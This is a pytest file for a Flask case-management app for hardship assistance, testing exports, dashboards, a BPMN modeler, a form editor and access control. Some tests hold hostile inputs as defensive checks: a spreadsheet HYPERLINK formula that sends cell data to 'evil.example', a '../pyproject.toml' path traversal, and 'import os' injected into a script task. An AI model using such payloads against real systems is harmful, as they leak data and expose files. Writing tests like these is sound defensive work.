"""Supervisors', inspectors' and designers' pages through the Flask client."""
import json
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from test_pages import Browser, widget

DATA = Path(__file__).parent / "data"


@pytest.fixture
def signed_in(app):
    return lambda username: Browser(app, username)


def test_supervisor_filters_the_case_list_and_exports_what_it_shows(signed_in, case_at, household):
    paid = case_at(None)
    at_visit = case_at("household_visit")
    supervisor = signed_in("supervisor1")
    page = supervisor.get("/cases?stage=household_visit").get_data(as_text=True)
    assert f"/cases/{at_visit}" in page and f"/cases/{paid}\"" not in page

    export = supervisor.get("/cases.xlsx?status=paid")
    assert export.status_code == 200
    sheet = load_workbook(BytesIO(export.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:2] == ("案件编号", "家庭（职工姓名）")
    assert len(rows) == 2 and rows[1][5] == "已发放" and rows[1][10] == 800
    assert household["id_number"] not in json.dumps([list(map(str, r)) for r in rows], ensure_ascii=False)


def test_a_union_sees_only_its_own_cases_in_the_list(signed_in, case_at):
    case_id = case_at("preliminary_review")
    assert f"/cases/{case_id}" in signed_in("union1").get("/cases").get_data(as_text=True)
    assert f"/cases/{case_id}" not in signed_in("union2").get("/cases").get_data(as_text=True)
    assert signed_in("union2").get(f"/cases/{case_id}").status_code == 403


def test_case_page_marks_done_and_current_steps_on_the_diagram(signed_in, case_at):
    case_id = case_at("household_visit")
    page = signed_in("inspector1").get(f"/cases/{case_id}").get_data(as_text=True)
    diagram = widget(page, "diagram")
    assert {"declaration", "preliminary_review", "assign_third_party"} <= set(diagram["completed"])
    assert set(diagram["current"]) == {"household_visit", "visit_oversight"}
    assert "<bpmn:definitions" in diagram["xml"] or "definitions" in diagram["xml"]
    assert "入户走访" in page and "办理时间线" in page


def test_dashboard_counts_open_cases_by_stage(signed_in, case_at):
    case_at("household_visit")
    case_at("re_review")
    page = signed_in("supervisor1").get("/dashboard").get_data(as_text=True)
    by_stage = widget(page, "chart-by-stage")
    counts = dict(zip(by_stage["labels"], by_stage["datasets"][0]["data"]))
    assert counts["入户走访"] == 1 and counts["复审结论"] == 1


def test_designer_validates_a_model_and_sees_problems_by_element(signed_in):
    designer = signed_in("designer1")
    page = designer.get("/models/hardship_assistance/edit").get_data(as_text=True)
    token = widget(page, "modeler")["csrfToken"]
    unsafe = (DATA / "script_task.bpmn").read_text(encoding="utf-8").replace("SCRIPT_BODY", "import os") \
        .replace("CONDITION", "True")
    response = designer.client.post("/models/validate", json={"xml": unsafe}, headers={"X-CSRFToken": token})
    assert response.status_code == 422
    assert "compute" in response.get_json()["error"]["fields"]
    good = designer.client.post("/models/validate", json={"xml": widget(page, "modeler")["xml"]},
                                headers={"X-CSRFToken": token})
    assert good.get_json() == {"ok": True}


def test_designer_deploys_from_the_modeler_and_the_list_shows_the_version(signed_in):
    designer = signed_in("designer1")
    page = designer.get("/models/hardship_assistance/edit").get_data(as_text=True)
    modeler = widget(page, "modeler")
    changed = modeler["xml"].replace('name="初审"', 'name="基层初审"')
    response = designer.client.post("/models/deploy", json={"xml": changed, "comment": "初审改名"},
                                    headers={"X-CSRFToken": modeler["csrfToken"]})
    assert response.status_code == 201 and response.get_json()["version"]["version"] == 2
    listing = designer.get("/models").get_data(as_text=True)
    assert "第 2 版" in listing and "初审改名" in listing


def test_deploy_without_the_csrf_header_is_refused(signed_in):
    designer = signed_in("designer1")
    page = designer.get("/models/hardship_assistance/edit").get_data(as_text=True)
    response = designer.client.post("/models/deploy", json={"xml": widget(page, "modeler")["xml"]})
    assert response.status_code == 400


def test_forms_sharing_a_title_are_told_apart_by_their_file_name(signed_in):
    """审批 is the title of the hardship approval's form and of the programmes' approval form: the models page
    and the modeler's form list name each with its file (on the page as an identifier, <code>), other forms by
    their title alone."""
    designer = signed_in("designer1")
    listing = designer.get("/models").get_data(as_text=True)
    assert ">审批（<code>approval</code>）</a>" in listing and ">审批（<code>programme_approval</code>）</a>" in listing
    assert ">审批</a>" not in listing and ">公示</a>" in listing
    titles = widget(designer.get("/models/hardship_assistance/edit").get_data(as_text=True), "modeler")["formTitles"]
    assert titles["approval.schema.json"] == "审批（approval）"
    assert titles["programme_approval.schema.json"] == "审批（programme_approval）"
    assert titles["public_notice.schema.json"] == "公示"


def test_only_designers_open_the_modeler(signed_in):
    assert signed_in("center1").get("/models").status_code == 403


def test_form_editor_refuses_a_broken_schema_and_keeps_the_text(signed_in, app):
    designer = signed_in("designer1")
    response = designer.post("/forms/payment.schema.json", {"schema": '{"type": "object", "required": 5}',
                                                             "ui_schema": "{}"})
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "不是有效的 JSON Schema：required 应为列表，而不是 5" in page
    assert widget(page, "form-editor")["schemaText"] == '{"type": "object", "required": 5}'
    not_json = designer.post("/forms/payment.schema.json", {"schema": '{"type": "object",\n  oops}', "ui_schema": "{}"})
    assert not_json.status_code == 422
    assert "JSON Schema 不是有效的 JSON —— 第 2 行第 3 列：此处应为用双引号括起的属性名" in not_json.get_data(as_text=True)


def test_form_editor_saves_a_valid_schema_for_the_next_deployment(migrated, tmp_path):
    """Saving stores a draft in the database, never a file (not even in FORMS_DIR); the running model keeps its
    snapshot until a new version is deployed."""
    from conftest import make_app, prepare
    from bangfu import db
    from bangfu.resources import bundled_forms
    from bangfu.services import services
    forms = tmp_path / "forms"
    app = make_app(migrated, FORMS_DIR=str(forms))
    try:
        prepare(app)
        designer = Browser(app, "designer1")
        edited = json.loads((bundled_forms() / "payment.schema.json").read_text(encoding="utf-8"))
        edited["properties"]["bank_reference"]["title"] = "银行流水号（回单）"
        response = designer.post("/forms/payment.schema.json", {"schema": json.dumps(edited, ensure_ascii=False),
                                                                 "ui_schema": "{}", "based_on": 0})
        assert response.status_code == 302
        assert not forms.exists()
        with app.app_context():
            saved = json.loads(services().forms.using(db.session()).read("payment.schema.json"))
        assert saved["properties"]["bank_reference"]["title"] == "银行流水号（回单）"
        assert "重新部署" in designer.get(response.headers["Location"]).get_data(as_text=True)
    finally:
        db.engine_of(app).dispose()


def test_modeler_endpoints_refuse_a_request_without_a_model(signed_in):
    designer = signed_in("designer1")
    token = widget(designer.get("/models/hardship_assistance/edit").get_data(as_text=True), "modeler")["csrfToken"]
    for path in ("/models/validate", "/models/deploy"):
        response = designer.client.post(path, json={"comment": "无模型"}, headers={"X-CSRFToken": token})
        assert response.status_code == 400, path


@pytest.mark.parametrize("name", ["../pyproject.toml", "nope.schema.json", "payment.uischema.json"])
def test_form_editor_opens_only_form_schema_files(signed_in, name):
    assert signed_in("designer1").get(f"/forms/{name}").status_code == 404


def test_an_unknown_task_or_case_page_is_not_found(signed_in):
    supervisor = signed_in("supervisor1")
    assert supervisor.get("/tasks/999999").status_code == 404
    assert supervisor.get("/cases/999999").status_code == 404


def test_text_that_looks_like_a_formula_is_exported_as_text(signed_in, api, case_at, household):
    case_id = case_at("declaration")
    employer = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    name = "+" + household["name"]
    api.complete(case_id, "declaration", dict(household, employer=employer, name=name, bank_account_name=name))
    export = signed_in("supervisor1").get("/cases.xlsx")
    sheet = load_workbook(BytesIO(export.data)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == name)
    assert (row[2].value, row[2].data_type) == (employer, "s")
    assert row[1].data_type == "s"
    assert not [cell for r in sheet.iter_rows() for cell in r if cell.data_type == "f"]


@pytest.mark.parametrize("body", [[1], "xml", {"xml": 5}, {"xml": "<a/>", "comment": {"text": "x"}}])
def test_modeler_endpoints_name_the_field_of_a_malformed_request(signed_in, body):
    """A body that is not an object, or a comment that is not text, was a 500 (AttributeError)."""
    designer = signed_in("designer1")
    token = widget(designer.get("/models/hardship_assistance/edit").get_data(as_text=True), "modeler")["csrfToken"]
    for path in ("/models/validate", "/models/deploy"):
        response = designer.client.post(path, json=body, headers={"X-CSRFToken": token})
        assert response.status_code == 400, (path, response.get_json())
        assert set(response.get_json()["error"]["fields"]) in ({"xml"}, {"comment"}), (path, response.get_json())
